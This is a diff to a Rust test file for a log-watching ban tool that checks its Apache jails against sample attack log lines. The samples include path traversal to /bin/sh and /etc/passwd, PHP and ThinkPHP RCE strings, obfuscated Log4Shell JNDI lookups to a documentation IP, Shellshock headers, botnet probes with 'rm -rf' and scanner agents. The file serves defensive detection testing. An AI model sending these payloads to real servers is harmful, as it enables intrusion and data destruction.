@@ -1,5 +1,5 @@
-//! The shipped filters, each from both sides: every pattern is hit by one sample and no other
-//! pattern hits it, in every format; what a client smuggles into a harmless request hits nobody.
+//! The shipped jails, each from both sides: an attack is banned in every format; what visitors send
+//! is not; what a client smuggles into a harmless request hits no other client.
 
 use std::collections::BTreeSet;
 use std::io::Write;
@@ -40,138 +40,107 @@ const fn referer(referer: &'static str) -> Request {
     }
 }
 
-/// Filter, number of its pattern, an attack as it stands in the log.
-const ATTACKS: &[(&str, u64, Request)] = &[
+/// Jail, an attack as the log has it.
+const ATTACKS: &[(&str, Request)] = &[
     (
         "apache-cgitraversal-access",
-        1,
         path("POST /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1"),
     ),
     (
         "apache-cgitraversal-access",
-        1,
         path("GET /icons/%%32%65%%32%65/%%32%65%%32%65/bin/bash HTTP/1.1"),
     ),
     (
         "apache-cgitraversal-access",
-        1,
         path("GET /cgi-bin/%2E%2E/%2e%2e/bin/sh?x HTTP/1.0"),
     ),
+    ("apache-cgitraversal-access", path("POST /bin/sh HTTP/1.1")),
     (
-        "apache-cgitraversal-access",
-        2,
-        path("POST /bin/sh HTTP/1.1"),
-    ),
-    (
-        "apache-path-traversal",
-        1,
+        "apache-attacks",
         path("GET /a/..%2f..%2fetc/passwd HTTP/1.1"),
     ),
     (
-        "apache-path-traversal",
-        1,
+        "apache-attacks",
         path("GET /static/..%5c..%5cwindows%5cwin.ini HTTP/1.1"),
     ),
     (
-        "apache-path-traversal",
-        1,
+        "apache-attacks",
         path("GET /@fs/..%2f..%2fproc/self/environ?raw HTTP/1.1"),
     ),
     (
         "apache-phpunit",
-        1,
         path("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1"),
     ),
     (
         "apache-php-rce",
-        1,
         path(r"GET /index.php?s=/index/\\think\\app/invokefunction&function=x HTTP/1.1"),
     ),
     (
         "apache-php-rce",
-        1,
         path("GET /?s=index/%5Cthink%5Cview%5Cdriver%5CPhp/display HTTP/1.1"),
     ),
     (
         "apache-php-rce",
-        2,
         path(
             "POST /x.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1",
         ),
     ),
     (
         "apache-php-rce",
-        3,
         path("GET /index.php?lang=../pearcmd&+config-create+/&/<?echo(1);?>+/tmp/x.php HTTP/1.1"),
     ),
     (
         "apache-log4shell",
-        1,
         path("GET /?x=${jndi:ldap://192.0.2.66/a} HTTP/1.1"),
     ),
     (
         "apache-log4shell",
-        2,
         path("GET /%24%7Bjndi%3Aldap%3A//192.0.2.66/a%7D HTTP/1.1"),
     ),
-    ("apache-log4shell", 4, agent("${jndi:ldap://192.0.2.66/a}")),
+    ("apache-log4shell", agent("${jndi:ldap://192.0.2.66/a}")),
     (
         "apache-log4shell",
-        4,
         agent("t('${${env:NaN:-j}ndi:ldap://192.0.2.66/a}')"),
     ),
-    ("apache-log4shell", 3, referer("${jndi:dns://192.0.2.66/a}")),
+    ("apache-log4shell", referer("${jndi:dns://192.0.2.66/a}")),
     (
         "apache-log4shell",
-        3,
         referer("https://${jndi:dns://192.0.2.66/a}"),
     ),
     (
         "apache-log4shell",
-        1,
         path("GET /?x=${${lower:j}ndi:${lower:l}${lower:d}ldap://192.0.2.66/a} HTTP/1.1"),
     ),
     (
         "apache-log4shell",
-        4,
         agent("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://192.0.2.66/a}"),
     ),
-    ("apache-shellshock", 1, agent("() { :;}; /bin/id")),
-    ("apache-shellshock", 1, referer("() { x;};echo")),
+    ("apache-shellshock", agent("() { :;}; /bin/id")),
+    ("apache-shellshock", referer("() { x;};echo")),
     (
         "apache-botnet",
-        1,
         path("GET /shell?cd+/tmp;rm+-rf+* HTTP/1.1"),
     ),
     (
         "apache-botnet",
-        2,
         path("POST /GponForm/diag_Form?images/ HTTP/1.1"),
     ),
     (
         "apache-botnet",
-        3,
         path("GET /boaform/admin/formLogin?username=a HTTP/1.1"),
     ),
     (
         "apache-botnet",
-        4,
         path("GET /setup.cgi?next_file=netgear.cfg&todo=syscmd HTTP/1.1"),
     ),
     (
         "apache-botnet",
-        5,
         path("GET /w00tw00t.at.ISC.SANS.DFind HTTP/1.1"),
     ),
+    ("apache-scanners", agent("sqlmap/1.7 (https://sqlmap.org)")),
+    ("apache-scanners", agent("Fuzz Faster U Fool v2.1.0-dev")),
     (
         "apache-scanners",
-        1,
-        agent("sqlmap/1.7 (https://sqlmap.org)"),
-    ),
-    ("apache-scanners", 1, agent("Fuzz Faster U Fool v2.1.0-dev")),
-    (
-        "apache-scanners",
-        2,
         agent("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)"),
     ),
 ];
@@ -212,8 +181,9 @@ fn lines(request: &Request) -> Vec<String> {
     ]
 }
 
-/// What `pipeban test` says of a line: verdict, host, and what matched, as filter and pattern.
-type Answer = (String, String, Vec<(String, u64)>);
+/// What `pipeban test` says of a line: verdict, host, and the jails that matched, each with whether
+/// it bans for this line alone.
+type Answer = (String, String, Vec<(String, bool)>);
 
 /// `pipeban test` on these lines.
 fn test(how: &[&str], lines: &[String]) -> Vec<Answer> {
@@ -245,7 +215,7 @@ fn test(how: &[&str], lines: &[String]) -> Vec<Answer> {
                 text(&value["verdict"]),
                 text(&value["host"]),
                 matches
-                    .map(|found| (text(&found["filter"]), found["pattern"].as_u64().unwrap()))
+                    .map(|found| (text(&found["jail"]), found["bans_alone"].as_bool().unwrap()))
                     .collect(),
             )
         })
@@ -280,53 +250,51 @@ fn repository(path: &str) -> PathBuf {
 const FORMATS: [&str; 4] = ["combined", "combined", "vhost_combined", "pipeban"];
 
 #[test]
-fn every_pattern_is_hit_by_its_samples_and_by_no_others() {
+fn an_attack_is_banned_by_its_jail_in_every_format() {
     for (index, format) in FORMATS.iter().enumerate() {
         let lines: Vec<String> = ATTACKS
             .iter()
-            .map(|(_, _, request)| lines(request)[index].clone())
+            .map(|(_, request)| lines(request)[index].clone())
             .collect();
         let host = if index == 1 { "2001:db8::7" } else { CLIENT };
         let answers = test_all(format, &lines);
-        for ((filter, pattern, _), (answer, line)) in ATTACKS.iter().zip(answers.iter().zip(&lines))
+        for ((jail, _), ((verdict, hit, matches), line)) in
+            ATTACKS.iter().zip(answers.iter().zip(&lines))
         {
-            let expected = (
-                "match".to_owned(),
-                host.to_owned(),
-                vec![((*filter).to_owned(), *pattern)],
+            assert_eq!((verdict.as_str(), hit.as_str()), ("match", host), "{line}");
+            assert!(
+                matches.contains(&((*jail).to_owned(), true)),
+                "{matches:?}: {line}"
             );
-            assert_eq!(*answer, expected, "{line}");
         }
     }
 }
 
 #[test]
-fn every_access_pattern_has_a_sample() {
-    let mut patterns = BTreeSet::new();
-    for entry in std::fs::read_dir(repository("config/filters.d")).unwrap() {
-        let file = entry.unwrap().path();
-        let name = file.file_stem().unwrap().to_str().unwrap().to_owned();
-        let text = std::fs::read_to_string(&file).unwrap();
-        let count = text.lines().filter(|line| line.contains("<HOST>")).count() as u64;
-        patterns.extend((1..=count).map(|pattern| (name.clone(), pattern)));
-    }
-    patterns.remove(&("apache-cgitraversal".to_owned(), 1));
-    let hit: BTreeSet<_> = ATTACKS
-        .iter()
-        .map(|(filter, pattern, _)| ((*filter).to_owned(), *pattern))
+fn every_access_jail_has_a_sample() {
+    let file = repository("config/jails.d/apache.toml");
+    let jails: toml::Table = toml::from_str(&std::fs::read_to_string(file).unwrap()).unwrap();
+    let jails = jails["jails"].as_table().unwrap().iter();
+    let access: BTreeSet<_> = jails
+        .filter(|(_, jail)| jail["log"].as_str() == Some("access"))
+        .map(|(name, _)| name.as_str())
         .collect();
-    assert_eq!(hit, patterns);
+    let hit: BTreeSet<_> = ATTACKS.iter().map(|(jail, _)| *jail).collect();
+    assert_eq!(hit, access);
 }
 
 #[test]
-fn what_visitors_send_hits_nobody() {
+fn what_visitors_send_bans_no_client_for_one_line() {
     for (index, format) in FORMATS.iter().enumerate() {
         let lines: Vec<String> = HARMLESS
             .iter()
             .map(|request| lines(request)[index].clone())
             .collect();
         for (answer, line) in test_all(format, &lines).iter().zip(&lines) {
-            assert_eq!(answer.0, "miss", "{line}");
+            assert!(
+                answer.2.iter().all(|(_, alone)| !alone),
+                "{answer:?}: {line}"
+            );
         }
     }
 }
@@ -335,7 +303,7 @@ fn what_visitors_send_hits_nobody() {
 fn nobody_is_hit_for_what_another_one_smuggled_into_a_line() {
     let time = "[22/Nov/2026:11:00:32 +0000]";
     let mut lines = Vec::new();
-    for (_, _, attack) in ATTACKS {
+    for (_, attack) in ATTACKS {
         // The attack as a whole line of another client's, in each field that a client writes.
         let whole = format!(
             "198.51.100.1 - - {time} \\\"{}\\\" 404 1 \\\"{}\\\" \\\"{}\\\"",
@@ -365,7 +333,7 @@ fn the_error_logs_filter_hits_apaches_client_and_nothing_else() {
     let error = |text: &str| format!("[Sun Nov 22 11:00:33.366318 2026] {text}");
     let attack = "AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/bin/sh)";
     let forged = "[client 198.51.100.1:1] AH10244: invalid URI path (/cgi-bin/../bin/sh)";
-    let filter = repository("config/filters.d/apache-cgitraversal.conf");
+    let filter = repository("config/filters.d/apache-cgitraversal.toml");
     let tutorial = repository("config/examples/filters.d/apache-cgitraversal.conf");
     // Line, what the shipped filter says, what the tutorial's says.
     let cases = [
